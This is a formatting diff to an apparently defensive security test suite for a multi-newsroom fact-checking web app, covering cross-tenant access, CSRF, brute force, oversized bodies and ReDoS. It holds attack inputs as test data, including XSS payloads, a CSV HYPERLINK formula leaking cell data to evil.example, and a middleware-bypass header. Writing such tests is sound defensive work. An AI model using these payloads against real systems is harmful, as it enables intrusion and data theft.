@@ -71,7 +71,14 @@ interface Sent {
 
 async function send(
   path: string,
-  { method = 'GET', cookie, json, body, headers = {}, timeout = 20_000 }: { method?: string; cookie?: string; json?: unknown; body?: string; headers?: Record<string, string>; timeout?: number } = {},
+  {
+    method = 'GET',
+    cookie,
+    json,
+    body,
+    headers = {},
+    timeout = 20_000,
+  }: { method?: string; cookie?: string; json?: unknown; body?: string; headers?: Record<string, string>; timeout?: number } = {},
 ): Promise<Sent> {
   const init = {
     method,
@@ -174,35 +181,44 @@ it('the minted sessions work like signed-in ones (the control for everything bel
 describe("another newsroom's ids", () => {
   const missing = 'cnotarealid0000000000000'
   /** Every way to read or change A's things by id; `id` swaps in a nonexistent id for comparison. */
-  const probes = (id: (real: string) => string) => [
-    ['GET', `/api/articles/${id(A.article)}/claims`],
-    ['POST', `/api/articles/${id(A.article)}/claims`, { revisionId: A.revisionId, start: 0, end: 10 }],
-    ['GET', `/api/articles/${id(A.article)}/revisions`],
-    ['POST', `/api/articles/${id(A.article)}/revisions`, { baseRevisionId: A.revisionId, doc: { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Replaced.' }] }] } }],
-    ...['md', 'csv', 'json', 'claimreview', 'w3c'].map((format) => ['GET', `/api/articles/${id(A.article)}/export?format=${format}`]),
-    ['POST', `/api/articles/${id(A.article)}/import?format=w3c`, { type: 'Annotation', target: { selector: { type: 'TextQuoteSelector', exact: 'Russia was not' } } }],
-    ['GET', `/api/articles/${id(A.article)}/events`],
-    ['GET', `/api/articles/${id(A.article)}/events?lastEventId=0`],
-    ['GET', `/api/articles/${id(A.article)}/presence`],
-    ['PUT', `/api/articles/${id(A.article)}/presence`, { connectionId: randomUUID(), claimId: null }],
-    ['GET', `/api/claims/${id(A.inReview)}`],
-    ['PATCH', `/api/claims/${id(A.inReview)}`, { version: 7, verdict: 'FALSE' }],
-    ['GET', `/api/claims/${id(A.inReview)}/history`],
-    ['POST', `/api/claims/${id(A.inReview)}/notes`, { body: 'sneaky' }],
-    ['POST', `/api/claims/${id(A.inReview)}/sources`, { url: 'https://x.example/', title: 'x' }],
-    ['POST', `/api/claims/${id(A.inReview)}/transitions`, { version: 7, to: 'APPROVED' }],
-    ['POST', `/api/claims/${id(A.inReview)}/reattach`, { version: 7, revisionId: A.revisionId, start: 0, end: 10 }],
-    ['GET', `/api/claims/${id(A.inReview)}/matches`],
-    ['POST', `/api/claims/${id(A.inReview)}/links`, { claimId: B.claim }],
-    ['POST', `/api/claims/${B.claim}/links`, { claimId: id(A.inReview) }],
-    ['PATCH', `/api/notes/${id(A.note)}`, { version: 1, body: 'rewritten' }],
-    ['DELETE', `/api/notes/${id(A.note)}`, { version: 1 }],
-    ['PATCH', `/api/sources/${id(A.source)}`, { title: 'rewritten' }],
-    ['DELETE', `/api/sources/${id(A.source)}`],
-    ['PATCH', `/api/admin/members/${id(A.checker.id)}`, { role: 'ADMIN' }],
-    ['PATCH', `/api/admin/members/${id(A.checker.id)}`, { disabled: true }],
-    ['POST', `/api/admin/members/${id(A.checker.id)}/password-link`],
-  ] as [string, string, unknown?][]
+  const probes = (id: (real: string) => string) =>
+    [
+      ['GET', `/api/articles/${id(A.article)}/claims`],
+      ['POST', `/api/articles/${id(A.article)}/claims`, { revisionId: A.revisionId, start: 0, end: 10 }],
+      ['GET', `/api/articles/${id(A.article)}/revisions`],
+      [
+        'POST',
+        `/api/articles/${id(A.article)}/revisions`,
+        { baseRevisionId: A.revisionId, doc: { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Replaced.' }] }] } },
+      ],
+      ...['md', 'csv', 'json', 'claimreview', 'w3c'].map((format) => ['GET', `/api/articles/${id(A.article)}/export?format=${format}`]),
+      [
+        'POST',
+        `/api/articles/${id(A.article)}/import?format=w3c`,
+        { type: 'Annotation', target: { selector: { type: 'TextQuoteSelector', exact: 'Russia was not' } } },
+      ],
+      ['GET', `/api/articles/${id(A.article)}/events`],
+      ['GET', `/api/articles/${id(A.article)}/events?lastEventId=0`],
+      ['GET', `/api/articles/${id(A.article)}/presence`],
+      ['PUT', `/api/articles/${id(A.article)}/presence`, { connectionId: randomUUID(), claimId: null }],
+      ['GET', `/api/claims/${id(A.inReview)}`],
+      ['PATCH', `/api/claims/${id(A.inReview)}`, { version: 7, verdict: 'FALSE' }],
+      ['GET', `/api/claims/${id(A.inReview)}/history`],
+      ['POST', `/api/claims/${id(A.inReview)}/notes`, { body: 'sneaky' }],
+      ['POST', `/api/claims/${id(A.inReview)}/sources`, { url: 'https://x.example/', title: 'x' }],
+      ['POST', `/api/claims/${id(A.inReview)}/transitions`, { version: 7, to: 'APPROVED' }],
+      ['POST', `/api/claims/${id(A.inReview)}/reattach`, { version: 7, revisionId: A.revisionId, start: 0, end: 10 }],
+      ['GET', `/api/claims/${id(A.inReview)}/matches`],
+      ['POST', `/api/claims/${id(A.inReview)}/links`, { claimId: B.claim }],
+      ['POST', `/api/claims/${B.claim}/links`, { claimId: id(A.inReview) }],
+      ['PATCH', `/api/notes/${id(A.note)}`, { version: 1, body: 'rewritten' }],
+      ['DELETE', `/api/notes/${id(A.note)}`, { version: 1 }],
+      ['PATCH', `/api/sources/${id(A.source)}`, { title: 'rewritten' }],
+      ['DELETE', `/api/sources/${id(A.source)}`],
+      ['PATCH', `/api/admin/members/${id(A.checker.id)}`, { role: 'ADMIN' }],
+      ['PATCH', `/api/admin/members/${id(A.checker.id)}`, { disabled: true }],
+      ['POST', `/api/admin/members/${id(A.checker.id)}/password-link`],
+    ] as [string, string, unknown?][]
 
   it('answer 404 to every role of newsroom B, exactly as ids that do not exist, and nothing changes', async () => {
     const before = await snapshot()
@@ -224,7 +240,12 @@ describe("another newsroom's ids", () => {
   })
 
   it("answer 404 for A's pages, with no trace of A in the page or its RSC payload", async () => {
-    for (const path of [`/articles/${A.article}`, `/articles/${A.article}/report`, `/articles/${A.article}/revisions/1`, `/articles/${A.article}?claim=${A.inReview}`]) {
+    for (const path of [
+      `/articles/${A.article}`,
+      `/articles/${A.article}/report`,
+      `/articles/${A.article}/revisions/1`,
+      `/articles/${A.article}?claim=${A.inReview}`,
+    ]) {
       for (const headers of [{}, { RSC: '1' }, { RSC: '1', 'Next-Router-Prefetch': '1' }] as Record<string, string>[]) {
         const response = await send(path, { cookie: as(B.admin), headers })
         // Next.js answers an RSC request with 200 and the not-found tree in the payload; a page request with 404.
@@ -307,7 +328,11 @@ describe('mass assignment', () => {
     expect(renamed.status).toBe(422)
     // A claim on another newsroom's revision is refused too.
     const revisionB = await getLatestRevision(B.checker, B.article)
-    const onB = await send(`/api/articles/${A.article}/claims`, { method: 'POST', cookie: as(A.checker), json: { revisionId: revisionB.id, start: 0, end: 10 } })
+    const onB = await send(`/api/articles/${A.article}/claims`, {
+      method: 'POST',
+      cookie: as(A.checker),
+      json: { revisionId: revisionB.id, start: 0, end: 10 },
+    })
     expect(onB.status).toBe(409)
 
     expect(await snapshot()).toEqual(before)
@@ -347,7 +372,11 @@ describe('approving', () => {
     await addSource(A.editor, claim.id, { url: 'https://alpha.example/self', title: 'Self' })
     const inReview = await transitionClaim(A.editor, claim.id, { version: 4, to: 'IN_REVIEW' })
     const before = await snapshot()
-    const response = await send(`/api/claims/${claim.id}/transitions`, { method: 'POST', cookie: as(A.editor), json: { version: inReview.version, to: 'APPROVED' } })
+    const response = await send(`/api/claims/${claim.id}/transitions`, {
+      method: 'POST',
+      cookie: as(A.editor),
+      json: { version: inReview.version, to: 'APPROVED' },
+    })
     expect(response.status).toBe(403)
     expect(await snapshot()).toEqual(before)
   })
@@ -382,7 +411,16 @@ describe('proxy bypass headers', () => {
     'src/proxy:src/proxy:src/proxy:src/proxy:src/proxy',
     'pages/_middleware',
   ]
-  const PAGES = () => ['/articles', `/articles/${A.article}`, `/articles/${A.article}/report`, '/review', '/reports', '/admin', '/account', '/articles/new']
+  const PAGES = () => [
+    '/articles',
+    `/articles/${A.article}`,
+    `/articles/${A.article}/report`,
+    '/review',
+    '/reports',
+    '/admin',
+    '/account',
+    '/articles/new',
+  ]
 
   it('x-middleware-subrequest does not get a signed-out visitor past the sign-in', async () => {
     for (const value of SUBREQUEST) {
@@ -437,7 +475,8 @@ describe('what pages and their RSC payloads give away', () => {
   ]
 
   it('no password hashes, no other newsroom, and emails only where they are meant to be', async () => {
-    const members = async (newsroomId: string) => (await getDb().user.findMany({ where: { newsroomId }, select: { email: true } })).map((u) => u.email)
+    const members = async (newsroomId: string) =>
+      (await getDb().user.findMany({ where: { newsroomId }, select: { email: true } })).map((u) => u.email)
     const emailsOfA = await members(A.checker.newsroomId)
     const emailsOfB = await members(B.checker.newsroomId)
     const cases = [
@@ -456,8 +495,7 @@ describe('what pages and their RSC payloads give away', () => {
             expect(response.text, label).not.toMatch(/passwordHash/i)
             for (const secret of foreign) expect(response.text, label).not.toContain(secret)
             const emails = new Set((response.text.match(EMAIL) ?? []).map((email) => email.toLowerCase()))
-            const allowed =
-              path === '/account' ? [actor.email] : path === '/admin' && actor.role === 'ADMIN' && response.status === 200 ? own : []
+            const allowed = path === '/account' ? [actor.email] : path === '/admin' && actor.role === 'ADMIN' && response.status === 200 ? own : []
             for (const email of emails) expect(allowed, `${label} shows ${email}`).toContain(email)
             if (path === '/account') expect(emails, label).toContain(actor.email)
             checked++
@@ -472,7 +510,13 @@ describe('what pages and their RSC payloads give away', () => {
   })
 
   it('the API never hands out a user row: people are ids and names', async () => {
-    for (const path of [`/api/claims/${A.inReview}`, `/api/claims/${A.inReview}/history`, `/api/articles/${A.article}/claims`, `/api/articles/${A.article}/revisions`, '/api/articles']) {
+    for (const path of [
+      `/api/claims/${A.inReview}`,
+      `/api/claims/${A.inReview}/history`,
+      `/api/articles/${A.article}/claims`,
+      `/api/articles/${A.article}/revisions`,
+      '/api/articles',
+    ]) {
       const response = await send(path, { cookie: as(A.checker) })
       expect(response.status).toBe(200)
       expect(response.text, path).not.toMatch(BCRYPT_HASH)
@@ -485,7 +529,8 @@ describe('what pages and their RSC payloads give away', () => {
 // ---------------------------------------------------------------------------------------------
 describe('stored XSS, CSV injection and JSON-LD', () => {
   const X = {} as { article: string; claim: string; formulaClaim: string; payloadArticles: string[] }
-  const SUMMARY = '</script><script>alert(1)</script> \u2028 <!--<script>alert(1)</script>--> \u2029 <img src=x onerror=alert(1)> <a href="javascript:alert(1)">x</a>'
+  const SUMMARY =
+    '</script><script>alert(1)</script> \u2028 <!--<script>alert(1)</script>--> \u2029 <img src=x onerror=alert(1)> <a href="javascript:alert(1)">x</a>'
   const html = [
     '<!doctype html><html><head><title>XSS lab</title><meta property="og:url" content="javascript:alert(1)"></head><body><article>',
     '<h1>XSS lab</h1>',
@@ -507,7 +552,11 @@ describe('stored XSS, CSV injection and JSON-LD', () => {
         format: 'html',
         fileName: '<img src=x onerror=alert(1)>.html',
         keep: [],
-        meta: { title: 'XSS lab <img src=x onerror=alert(1)> </script><script>alert(1)</script>', publisher: '<svg onload=alert(1)>', url: 'https://news.example/xss?a="><script>alert(1)</script>' },
+        meta: {
+          title: 'XSS lab <img src=x onerror=alert(1)> </script><script>alert(1)</script>',
+          publisher: '<svg onload=alert(1)>',
+          url: 'https://news.example/xss?a="><script>alert(1)</script>',
+        },
       },
     })
     expect(imported.status, imported.text).toBe(201)
@@ -517,14 +566,23 @@ describe('stored XSS, CSV injection and JSON-LD', () => {
       const one = await send('/api/articles', {
         method: 'POST',
         cookie: checker,
-        json: { content: `<p>Payload ${i}: ${payload} after.</p><p>Closing words ${i}.</p>`, format: 'html', keep: [], meta: { title: `XSS payload ${i}` } },
+        json: {
+          content: `<p>Payload ${i}: ${payload} after.</p><p>Closing words ${i}.</p>`,
+          format: 'html',
+          keep: [],
+          meta: { title: `XSS payload ${i}` },
+        },
       })
       expect(one.status, `${payload}: ${one.text}`).toBe(201)
       X.payloadArticles.push(one.json().article.id)
     }
     const revision = await getLatestRevision(A.checker, X.article)
     const mark = async (words: string) => {
-      const response = await send(`/api/articles/${X.article}/claims`, { method: 'POST', cookie: checker, json: { revisionId: revision.id, ...spanOf(revision.text, words), exact: words } })
+      const response = await send(`/api/articles/${X.article}/claims`, {
+        method: 'POST',
+        cookie: checker,
+        json: { revisionId: revision.id, ...spanOf(revision.text, words), exact: words },
+      })
       expect(response.status, response.text).toBe(201)
       return response.json().claim.id as string
     }
@@ -578,7 +636,8 @@ describe('stored XSS, CSV injection and JSON-LD', () => {
     expect(revisions).toHaveLength(XSS_PAYLOADS.length + 1)
     const problems: string[] = []
     const walk = (node: Record<string, unknown>) => {
-      if (!['doc', 'paragraph', 'heading', 'caption', 'bulletList', 'orderedList', 'listItem', 'blockquote', 'text'].includes(String(node.type))) problems.push(`node ${node.type}`)
+      if (!['doc', 'paragraph', 'heading', 'caption', 'bulletList', 'orderedList', 'listItem', 'blockquote', 'text'].includes(String(node.type)))
+        problems.push(`node ${node.type}`)
       const attrs = (node.attrs ?? {}) as Record<string, unknown>
       for (const key of Object.keys(attrs)) if (!(node.type === 'heading' && key === 'level')) problems.push(`attr ${key}`)
       for (const mark of (node.marks ?? []) as { type: string; attrs?: Record<string, unknown> }[]) {
@@ -605,11 +664,19 @@ describe('stored XSS, CSV injection and JSON-LD', () => {
       const asSource = await send(`/api/claims/${X.claim}/sources`, { method: 'POST', cookie: as(A.checker), json: { url, title: 'Bad link' } })
       expect(asSource.status, JSON.stringify(url)).toBe(422)
       expect(asSource.json().error.fields.url, url).toBeTruthy()
-      const asArchive = await send(`/api/claims/${X.claim}/sources`, { method: 'POST', cookie: as(A.checker), json: { url: 'https://ok.example/', title: 'Archive', archivedUrl: url } })
+      const asArchive = await send(`/api/claims/${X.claim}/sources`, {
+        method: 'POST',
+        cookie: as(A.checker),
+        json: { url: 'https://ok.example/', title: 'Archive', archivedUrl: url },
+      })
       expect(asArchive.status, JSON.stringify(url)).toBe(422)
       const asEdit = await send(`/api/sources/${A.source}`, { method: 'PATCH', cookie: as(A.checker), json: { url } })
       expect(asEdit.status, JSON.stringify(url)).toBe(422)
-      const asArticle = await send('/api/articles', { method: 'POST', cookie: as(A.checker), json: { content: 'Text.', format: 'text', keep: [], meta: { title: 'T', url } } })
+      const asArticle = await send('/api/articles', {
+        method: 'POST',
+        cookie: as(A.checker),
+        json: { content: 'Text.', format: 'text', keep: [], meta: { title: 'T', url } },
+      })
       expect(asArticle.status, JSON.stringify(url)).toBe(422)
     }
     const settings = (await send('/api/admin/settings', { cookie: as(A.admin) })).json().settings
@@ -643,7 +710,8 @@ describe('stored XSS, CSV injection and JSON-LD', () => {
       const document = exports[format].json()
       const bad: string[] = []
       const walk = (value: unknown, key = '') => {
-        if (typeof value === 'string' && urlKeys.test(key) && /^[a-z][a-z0-9+.-]*:/i.test(value) && !/^(https?:\/\/|urn:)/.test(value)) bad.push(`${key}=${value}`)
+        if (typeof value === 'string' && urlKeys.test(key) && /^[a-z][a-z0-9+.-]*:/i.test(value) && !/^(https?:\/\/|urn:)/.test(value))
+          bad.push(`${key}=${value}`)
         if (Array.isArray(value)) value.forEach((item) => walk(item, key))
         else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) walk(v, k)
       }
@@ -662,7 +730,10 @@ describe('stored XSS, CSV injection and JSON-LD', () => {
     expect(dangerous).toEqual([])
     // The neutralised values are there, behind an apostrophe, and otherwise unchanged.
     for (const value of ["'=1+1 is a claim", '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+2", "'@SUM(1+1)*cmd"]) {
-      expect(cells.some((cell) => cell.startsWith(value)), value).toBe(true)
+      expect(
+        cells.some((cell) => cell.startsWith(value)),
+        value,
+      ).toBe(true)
     }
   })
 
@@ -679,7 +750,14 @@ describe('stored XSS, CSV injection and JSON-LD', () => {
   })
 
   it('pages that show the hostile text render it as text', async () => {
-    for (const path of [`/articles/${X.article}`, `/articles/${X.article}?claim=${X.claim}`, '/review?status=APPROVED', '/reports', `/articles/${X.article}/revisions/1`, '/articles']) {
+    for (const path of [
+      `/articles/${X.article}`,
+      `/articles/${X.article}?claim=${X.claim}`,
+      '/review?status=APPROVED',
+      '/reports',
+      `/articles/${X.article}/revisions/1`,
+      '/articles',
+    ]) {
       const response = await send(path, { cookie: as(A.editor) })
       expect(response.status, path).toBe(200)
       expect(scriptRisks(response.text, { allowNextScripts: true, allowSvg: true }), path).toEqual([])
@@ -692,8 +770,16 @@ describe('cross-site requests (CSRF)', () => {
   const FOREIGN = 'https://evil.example'
   const mutations = (): [string, string, unknown][] => [
     ['POST', `/api/articles/${A.article}/claims`, { revisionId: A.revisionId, start: 0, end: 10 }],
-    ['POST', `/api/articles/${A.article}/revisions`, { baseRevisionId: A.revisionId, doc: { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Hijacked.' }] }] } }],
-    ['POST', `/api/articles/${A.article}/import?format=w3c`, { type: 'Annotation', target: { selector: { type: 'TextQuoteSelector', exact: 'Russia was not' } } }],
+    [
+      'POST',
+      `/api/articles/${A.article}/revisions`,
+      { baseRevisionId: A.revisionId, doc: { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Hijacked.' }] }] } },
+    ],
+    [
+      'POST',
+      `/api/articles/${A.article}/import?format=w3c`,
+      { type: 'Annotation', target: { selector: { type: 'TextQuoteSelector', exact: 'Russia was not' } } },
+    ],
     ['PUT', `/api/articles/${A.article}/presence`, { connectionId: randomUUID(), claimId: null }],
     ['POST', '/api/articles', { content: 'Planted article.', format: 'text', keep: [], meta: { title: 'Planted' } }],
     ['POST', '/api/imports/preview', { content: 'Text.' }],
@@ -728,13 +814,19 @@ describe('cross-site requests (CSRF)', () => {
       ]
       for (const [type, payload] of bodies) {
         for (const origin of [FOREIGN, 'null']) {
-          const response = await send(path, { method, cookie: as(A.admin), body: payload, headers: { 'Content-Type': type, Origin: origin, 'Sec-Fetch-Site': 'cross-site' } })
+          const response = await send(path, {
+            method,
+            cookie: as(A.admin),
+            body: payload,
+            headers: { 'Content-Type': type, Origin: origin, 'Sec-Fetch-Site': 'cross-site' },
+          })
           expect([403, 415], `${method} ${path} ${type} from ${origin}`).toContain(response.status)
         }
       }
       // Even as JSON (which a browser would only send after a CORS preflight nobody answers).
       const asJson = await send(path, { method, cookie: as(A.admin), json, headers: { Origin: FOREIGN, 'Sec-Fetch-Site': 'cross-site' } })
-      if (path === '/api/invitations/redeem') expect(asJson.status).toBeGreaterThanOrEqual(400) // no session involved: the token is the credential
+      if (path === '/api/invitations/redeem')
+        expect(asJson.status).toBeGreaterThanOrEqual(400) // no session involved: the token is the credential
       else expect([403, 415], `${method} ${path} JSON from ${FOREIGN}`).toContain(asJson.status)
     }
     // The routes without a body are refused by origin alone.
@@ -744,21 +836,31 @@ describe('cross-site requests (CSRF)', () => {
     const removal = await send(`/api/sources/${A.source}`, { method: 'DELETE', cookie: as(A.checker), headers: { Origin: 'null' } })
     expect(removal.status).toBe(403)
     // A sibling subdomain is the same site for SameSite cookies, but not the same origin.
-    const sibling = await send(`/api/claims/${A.inReview}/notes`, { method: 'POST', cookie: as(A.checker), json: { body: 'x' }, headers: { Origin: 'http://evil.127.0.0.1.nip.io', 'Sec-Fetch-Site': 'same-site' } })
+    const sibling = await send(`/api/claims/${A.inReview}/notes`, {
+      method: 'POST',
+      cookie: as(A.checker),
+      json: { body: 'x' },
+      headers: { Origin: 'http://evil.127.0.0.1.nip.io', 'Sec-Fetch-Site': 'same-site' },
+    })
     expect(sibling.status).toBe(403)
     expect(await snapshot()).toEqual(before)
   })
 
   it("the app's own pages still make changes (same origin), the control for the refusals", async () => {
-    const note = await send(`/api/claims/${A.approved}/notes`, { method: 'POST', cookie: as(A.checker), json: { body: 'Same-origin note.' }, headers: { Origin: server.url, 'Sec-Fetch-Site': 'same-origin' } })
+    const note = await send(`/api/claims/${A.approved}/notes`, {
+      method: 'POST',
+      cookie: as(A.checker),
+      json: { body: 'Same-origin note.' },
+      headers: { Origin: server.url, 'Sec-Fetch-Site': 'same-origin' },
+    })
     expect(note.status).toBe(201)
   })
 
   it('server actions refuse a foreign or null Origin: the sign-in action signs nobody in', async () => {
     // The sign-in action's id, from the build's manifest of server actions.
-    const manifest = JSON.parse(
-      readFileSync(join(process.env.NEXT_DIST_DIR || '.next', 'server', 'server-reference-manifest.json'), 'utf8'),
-    ) as { node: Record<string, { exportedName?: string; filename?: string }> }
+    const manifest = JSON.parse(readFileSync(join(process.env.NEXT_DIST_DIR || '.next', 'server', 'server-reference-manifest.json'), 'utf8')) as {
+      node: Record<string, { exportedName?: string; filename?: string }>
+    }
     const ids = Object.entries(manifest.node)
       .filter(([, entry]) => entry.exportedName === 'signInAction' || entry.filename?.includes('login/actions'))
       .map(([id]) => id)
@@ -804,7 +906,10 @@ describe('sign-in brute force', () => {
 
   beforeAll(async () => {
     const response = await fetch(`${server.url}/api/auth/csrf`)
-    const cookie = response.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ')
+    const cookie = response.headers
+      .getSetCookie()
+      .map((c) => c.split(';')[0])
+      .join('; ')
     csrf = { token: ((await response.json()) as { csrfToken: string }).csrfToken, cookie }
   })
 
@@ -819,8 +924,15 @@ describe('sign-in brute force', () => {
     })
     const body = await response.text()
     const ms = performance.now() - started
-    const setCookies = response.headers.getSetCookie().map((c) => c.split('=')[0]).sort()
-    return { answer: { status: response.status, location: response.headers.get('location'), body, setCookies }, ms, signedIn: setCookies.some((n) => n.includes('session-token')) }
+    const setCookies = response.headers
+      .getSetCookie()
+      .map((c) => c.split('=')[0])
+      .sort()
+    return {
+      answer: { status: response.status, location: response.headers.get('location'), body, setCookies },
+      ms,
+      signedIn: setCookies.some((n) => n.includes('session-token')),
+    }
   }
   const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)]
 
@@ -861,7 +973,11 @@ describe('sign-in brute force', () => {
     const address = freshAddress()
     // 19 failures already on record from this address (as 19 wrong passwords would leave them).
     await getDb().loginAttempt.createMany({
-      data: Array.from({ length: LOGIN_THROTTLE.maxAddressFailures - 1 }, (_, i) => ({ email: `sprayed-${i}@factmark.test`, address, succeeded: false })),
+      data: Array.from({ length: LOGIN_THROTTLE.maxAddressFailures - 1 }, (_, i) => ({
+        email: `sprayed-${i}@factmark.test`,
+        address,
+        succeeded: false,
+      })),
     })
     expect((await attempt('sprayed-last@factmark.test', 'Winter2025!', address)).signedIn).toBe(false)
     expect((await attempt(A.checker3.email, PASSWORD, address)).signedIn).toBe(false)
@@ -976,14 +1092,20 @@ describe('oversized and deeply nested bodies', () => {
     expect(plain.status).toBe(413)
 
     // Declared and sent: 413 (Next.js reads a body before its proxy runs, keeping at most 10 MB of it).
-    const declared = await raw(notePath(), { Cookie: as(A.checker), 'Content-Type': 'application/json', 'Content-Length': String(4 * 1024 * 1024) }, (s) => s.write('x'.repeat(4 * 1024 * 1024)))
+    const declared = await raw(
+      notePath(),
+      { Cookie: as(A.checker), 'Content-Type': 'application/json', 'Content-Length': String(4 * 1024 * 1024) },
+      (s) => s.write('x'.repeat(4 * 1024 * 1024)),
+    )
     expect(declared.status).toBe(413)
 
     // Declared and never sent: that connection waits (until Node's request timeout), nobody else does.
     const { hostname, port } = new URL(server.url)
     const stalled = connect(Number(port), hostname)
     await new Promise((resolve) => stalled.once('connect', resolve))
-    stalled.write(`POST ${notePath()} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nCookie: ${as(A.checker)}\r\nContent-Type: application/json\r\nContent-Length: 10485760\r\n\r\n{"body":"x"`)
+    stalled.write(
+      `POST ${notePath()} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nCookie: ${as(A.checker)}\r\nContent-Type: application/json\r\nContent-Length: 10485760\r\n\r\n{"body":"x"`,
+    )
     try {
       expect((await send('/api/articles', { cookie: as(A.checker), timeout: 10_000 })).status).toBe(200)
     } finally {
@@ -992,19 +1114,24 @@ describe('oversized and deeply nested bodies', () => {
 
     // No Content-Length (chunked), 16 MB: refused with 413 (the proxy stage reads it, keeping at most 10 MB).
     const OFFERED = 16 * 1024 * 1024
-    const chunked = await raw(notePath(), { Cookie: as(A.checker), 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' }, (socket) => {
-      const chunk = `${(64 * 1024).toString(16)}\r\n${'x'.repeat(64 * 1024)}\r\n`
-      let sent = 0
-      const pump = () => {
-        if (socket.destroyed) return
-        if (sent >= OFFERED) return void socket.write('0\r\n\r\n')
-        sent += 64 * 1024
-        if (socket.write(chunk)) setImmediate(pump)
-        else socket.once('drain', pump)
-      }
-      socket.write(`1\r\n{\r\n`)
-      pump()
-    }, 60_000)
+    const chunked = await raw(
+      notePath(),
+      { Cookie: as(A.checker), 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' },
+      (socket) => {
+        const chunk = `${(64 * 1024).toString(16)}\r\n${'x'.repeat(64 * 1024)}\r\n`
+        let sent = 0
+        const pump = () => {
+          if (socket.destroyed) return
+          if (sent >= OFFERED) return void socket.write('0\r\n\r\n')
+          sent += 64 * 1024
+          if (socket.write(chunk)) setImmediate(pump)
+          else socket.once('drain', pump)
+        }
+        socket.write(`1\r\n{\r\n`)
+        pump()
+      },
+      60_000,
+    )
     expect(chunked.status).toBe(413)
 
     // Declared small, sent big: only the declared bytes are the body (malformed JSON), the rest is not a request.
@@ -1032,7 +1159,12 @@ describe('oversized and deeply nested bodies', () => {
       ['PATCH', `/api/claims/${A.approved}`, `{"version":1,"summary":${arrays}}`, 422],
       ['POST', '/api/imports/preview', `{"content":${arrays}}`, 422],
       ['POST', '/api/articles', `{"content":"x","keep":${arrays},"meta":{"title":"T"}}`, 422],
-      ['POST', `/api/articles/${A.article}/revisions`, `{"baseRevisionId":"${revision.id}","doc":${nest(100_000, '{"type":"text","text":"x"}', (s) => `{"type":"paragraph","content":[${s}]}`)}}`, 422],
+      [
+        'POST',
+        `/api/articles/${A.article}/revisions`,
+        `{"baseRevisionId":"${revision.id}","doc":${nest(100_000, '{"type":"text","text":"x"}', (s) => `{"type":"paragraph","content":[${s}]}`)}}`,
+        422,
+      ],
       ['POST', `/api/articles/${A.article}/import?format=w3c`, nest(100_000, '{}', (s) => `{"type":"AnnotationCollection","first":${s}}`), 422],
       ['POST', `/api/articles/${A.article}/import?format=w3c`, `{"type":"AnnotationPage","items":${arrays}}`, 422],
       ['PUT', '/api/admin/settings', `{"displayName":"x","verdictScale":${nest(20_000, '1', (s) => `{"TRUE":${s}}`)}}`, 422],
@@ -1109,7 +1241,10 @@ describe('ReDoS-prone input', () => {
 
   it('pathological sign-in input and search queries answer promptly', async () => {
     const csrf = await fetch(`${server.url}/api/auth/csrf`)
-    const csrfCookie = csrf.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ')
+    const csrfCookie = csrf.headers
+      .getSetCookie()
+      .map((c) => c.split(';')[0])
+      .join('; ')
     const { csrfToken } = (await csrf.json()) as { csrfToken: string }
     const before = await getDb().loginAttempt.count()
     for (const email of ['@'.repeat(50_000), `${'a'.repeat(100_000)}@x`, ' '.repeat(200_000), `a@${'a-'.repeat(50_000)}.x`]) {
@@ -1126,7 +1261,7 @@ describe('ReDoS-prone input', () => {
     }
     // They went through the credentials check (and count as failures), not around it.
     expect(await getDb().loginAttempt.count()).toBe(before + 4)
-    for (const q of ['"'.repeat(500), '-'.repeat(500), 'a | '.repeat(120), '(' .repeat(500), "'&:*!".repeat(80), 'a'.repeat(501)]) {
+    for (const q of ['"'.repeat(500), '-'.repeat(500), 'a | '.repeat(120), '('.repeat(500), "'&:*!".repeat(80), 'a'.repeat(501)]) {
       const response = await send(`/api/search?q=${encodeURIComponent(q)}`, { cookie: as(A.checker), timeout: 10_000 })
       expect(response.status, q.slice(0, 20)).toBeLessThan(500)
     }
